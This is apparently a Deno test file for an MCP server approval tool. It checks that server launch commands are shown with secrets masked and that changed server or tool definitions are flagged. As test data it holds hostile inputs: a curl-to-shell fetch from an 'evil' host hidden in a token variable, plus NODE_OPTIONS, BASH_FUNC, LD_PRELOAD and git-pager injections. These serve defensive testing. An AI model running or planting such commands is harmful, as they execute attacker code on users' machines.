import { assertEquals } from "@std/assert";
import { changesSince, makeConsent } from "../approval/consents.ts";
import type { Tool } from "../mcp/tools.ts";
import type { ServerParams } from "../mcp/params.ts";
import { launchText, serverFingerprint, toolFingerprint } from "./fingerprint.ts";

/** Servers as registered, and as shown to people. */
const LAUNCHES: readonly (readonly [params: ServerParams, text: string])[] = [
  [{ command: "npx", args: ["-y", "@mcp/fs@1.2", "/data"] }, "npx -y @mcp/fs@1.2 /data"],
  [{ command: "my server", args: ["it's", ""] }, "'my server' 'it\\'s' ''"],
  [{ command: "x", env: { A: "${A}", B: "b", MY_TOKEN: "abc" } }, "A=${A} B=b MY_TOKEN=… x"],
  [{ command: "x", env: { TOKEN: "${A}", apiKey: "abc" } }, "TOKEN=${A} apiKey=… x"],
  [{ command: "x", env: { TOKEN: "abc ${A}", KEYBOARD: "us" } }, "TOKEN=… KEYBOARD=us x"],
  [
    { command: "x", env: { DB: "pg://me:abc@h/x", "A\n": "" } },
    "DB='pg://me:…@h/x' 'A\\n'='' x",
  ],
  [{ command: "x", args: ["--token=abc", "--key=${KEY}"] }, "x --token=… --key=${KEY}"],
  [
    { command: "x", args: ["--header", "Authorization: Bearer abc"] },
    "x --header 'Authorization: '…",
  ],
  [{ command: "x", args: ["--token", "${T}"] }, "x --token ${T}"],
  [{ command: "x", args: ["--token", "--verbose"] }, "x --token --verbose"],
  [{ command: "x\u001b[2K", args: ["a\nb"] }, "'x\\x1b[2K' 'a\\nb'"],
  // A value that poses as a secret is not hidden: it would run.
  [{ command: "python3", args: ["-Wtoken", "/tmp/evil.py"] }, "python3 -Wtoken /tmp/evil.py"],
  [{ command: "python3", args: ["--token", "/tmp/evil.py"] }, "python3 --token /tmp/evil.py"],
  [
    { command: "sh", args: ["-c", "X_TOKEN=$(curl${IFS}evil|sh); exec real"] },
    "sh -c 'X_TOKEN=$(curl${IFS}evil|sh); exec real'",
  ],
  [
    { command: "node", env: { NODE_OPTIONS: "--require /tmp/evil.js", PATH: "/tmp" } },
    "NODE_OPTIONS='--require /tmp/evil.js' PATH=/tmp node",
  ],
  [
    { command: "bash", env: { "BASH_FUNC_get_token%%": "() { touch x; }", A_KEY: "touch /tmp/x" } },
    "BASH_FUNC_get_token%%='() { touch x; }' A_KEY='touch /tmp/x' bash",
  ],
  [
    { command: "git", env: { GIT_CONFIG_KEY_0: "core.pager", TOKEN_OPTIONS: "evil" } },
    "GIT_CONFIG_KEY_0=core.pager TOKEN_OPTIONS=evil git",
  ],
  [
    { command: "x", args: ["--plugin-key=/tmp/evil.so", "--key=./x"], env: { KEY: "/tmp/x" } },
    "KEY=/tmp/x x --plugin-key=/tmp/evil.so --key=./x",
  ],
  [
    { command: "x", env: { A_KEY: "-----BEGIN A KEY-----\nabc=\n-----END A KEY-----\n" } },
    "A_KEY=… x",
  ],
  [{ command: "x", env: { CREDENTIALS: '{"a": "abc"}' } }, "CREDENTIALS=… x"],
  [{ command: "x", env: { TOKEN: "ab/c+d==", API_KEY: "-c abd" } }, "TOKEN=… API_KEY='-c abd' x"],
  [{ url: "https://h.example/mcp" }, "https://h.example/mcp"],
  [
    { url: "https://me:pw@h.example/mcp?token=abc&team=a#x" },
    "https://me:…@h.example/mcp?token=…&team=a#x",
  ],
  [{ url: "https://h.example/?api_key=${KEY}" }, "https://h.example/?api_key=${KEY}"],
  [{ url: "https://h.example/token=x/\u202e" }, "https://h.example/token=x/\\u202e"],
  [
    { url: "https://h.example/", headers: { Authorization: "Bearer x" } },
    "https://h.example/ (headers: Authorization)",
  ],
];

for (const [params, text] of LAUNCHES) {
  Deno.test(`launchText() says ${text}`, () => {
    assertEquals(launchText(params), text);
    const shown = serverFingerprint(params).map(({ shown }) => shown).join();
    assertEquals(/abc|pw@|Bearer x/.test(shown), false, shown);
  });
}

const STDIO: ServerParams = { command: "npx", args: ["fs"], env: { A: "1" } };
const HTTP: ServerParams = { url: "https://h.example/mcp", headers: { A: "1" } };

/** Registrations before and after, and the changes that people see. */
const SERVERS: readonly (readonly [ServerParams, ServerParams, readonly string[]])[] = [
  [STDIO, { env: { A: "1" }, args: ["fs"], command: "npx" }, []],
  [STDIO, { ...STDIO, args: ["evil"] }, ["command was 'npx fs', is 'npx evil'"]],
  [STDIO, { ...STDIO, command: "npx fs", args: [] }, [
    "command was 'npx fs', is '\\'npx fs\\''",
  ]],
  [STDIO, { ...STDIO, env: { A: "2" } }, ["environment variable 'A' was '1', is '2'"]],
  [{ ...STDIO, env: { A_KEY: "1" } }, { ...STDIO, env: { A_KEY: "2" } }, [
    "environment variable 'A_KEY' changed",
  ]],
  [STDIO, { ...STDIO, env: { A: "1", LD_PRELOAD: "x" } }, [
    "environment variable 'LD_PRELOAD' was added",
  ]],
  [STDIO, { ...STDIO, env: {} }, ["environment variable 'A' was removed"]],
  [STDIO, { ...STDIO, cwd: "/evil" }, ["working directory was added"]],
  [{ ...STDIO, sandbox: true }, { ...STDIO, sandbox: false }, [
    "sandbox was 'true', is 'false'",
  ]],
  [{ ...STDIO, sandbox: true }, STDIO, ["sandbox was removed"]],
  [STDIO, { ...STDIO, protocol: "auto" }, ["protocol was added"]],
  [HTTP, { ...HTTP, url: "https://evil.example/mcp" }, [
    "URL was 'https://h.example/mcp', is 'https://evil.example/mcp'",
  ]],
  [HTTP, { ...HTTP, headers: { A: "2" } }, ["header 'A' changed"]],
  [HTTP, { ...HTTP, type: "sse" }, ["transport was added"]],
  [STDIO, { url: "x:" }, [
    "URL was added",
    "command was removed",
    "environment variable 'A' was removed",
  ]],
];

for (const [index, [before, after, changes]] of SERVERS.entries()) {
  Deno.test(`serverFingerprint() tells servers apart, case ${index + 1}: ${changes}`, () => {
    assertEquals(since(serverFingerprint(before), serverFingerprint(after)), changes);
  });
}

const TOOL: Tool = {
  name: "write",
  title: "Write",
  description: "Writes a file",
  inputSchema: {
    type: "object",
    properties: { path: { type: "string", description: "Where" } },
    required: ["path"],
  },
  annotations: { readOnlyHint: false },
};

/** Another definition of the tool, and the changes that people see. */
const TOOLS: readonly (readonly [Partial<Tool> | undefined, readonly string[]])[] = [
  [{}, []],
  [{
    inputSchema: {
      ...TOOL.inputSchema,
      properties: { path: { description: "Where", type: "string" } },
    },
  }, []],
  [{ description: "Sends it away" }, ["description was 'Writes a file', is 'Sends it away'"]],
  [{ title: "Read" }, ["title was 'Write', is 'Read'"]],
  [{ annotations: { readOnlyHint: true } }, [
    "annotations was '{\"readOnlyHint\":false}', is '{\"readOnlyHint\":true}'",
  ]],
  [{ inputSchema: { ...TOOL.inputSchema, properties: { path: { type: "string" } } } }, [
    'parameter \'path\' was \'{"description":"Where","type":"string"}\', is \'{"type":"string"}\'',
  ]],
  [{ inputSchema: { type: "object", properties: {}, required: ["path"] } }, [
    "parameter 'path' was removed",
  ]],
  [{ inputSchema: { ...TOOL.inputSchema, additionalProperties: false } }, [
    'input schema was \'{"required":["path"],"type":"object"}\', ' +
    'is \'{"additionalProperties":false,"required":["path"],"type":"object"}\'',
  ]],
  [{ outputSchema: { type: "object" } }, ["output schema was added"]],
  [undefined, [
    "definition was added",
    "title was removed",
    "description was removed",
    "annotations was removed",
    "parameter 'path' was removed",
    "input schema was removed",
  ]],
];

for (const [change, changes] of TOOLS) {
  Deno.test(`toolFingerprint() tells definitions apart: ${changes}`, () => {
    const after = change === undefined ? undefined : { ...TOOL, ...change };
    assertEquals(since(toolFingerprint(TOOL), toolFingerprint(after)), changes);
  });
}

Deno.test("toolFingerprint() of a tool with many parameters is short, and misses none", () => {
  const many = (type: string): Tool => {
    const names = Array.from({ length: 1000 }, (_, n) => [`p${n}`, n === 999 ? { type } : {}]);
    return { name: "t", inputSchema: { type: "object", properties: Object.fromEntries(names) } };
  };
  assertEquals(toolFingerprint(many("string")).length, 2);
  assertEquals(since(toolFingerprint(many("string")), toolFingerprint(many("number"))).length, 1);
});

function since(
  before: ReturnType<typeof toolFingerprint>,
  after: ReturnType<typeof toolFingerprint>,
): string[] {
  const call = { kind: "tool", serverName: "s", toolName: "t", arguments: {} } as const;
  return changesSince(makeConsent({ call, fingerprint: before, decision: "allow" }, "tool"), after);
}

Deno.test("toolFingerprint() names no parameter at a length that nobody would read", () => {
  const tool = (type: string): Tool => ({
    name: "t",
    inputSchema: { properties: { ["x".repeat(100_000)]: { type } } },
  });
  const one = toolFingerprint(tool("string"));
  assertEquals(one.map(({ name }) => name), ["parameters", "input schema"]);
  assertEquals(since(one, toolFingerprint(tool("number"))), [
    "parameters changed after its first 1000 characters",
  ]);
});
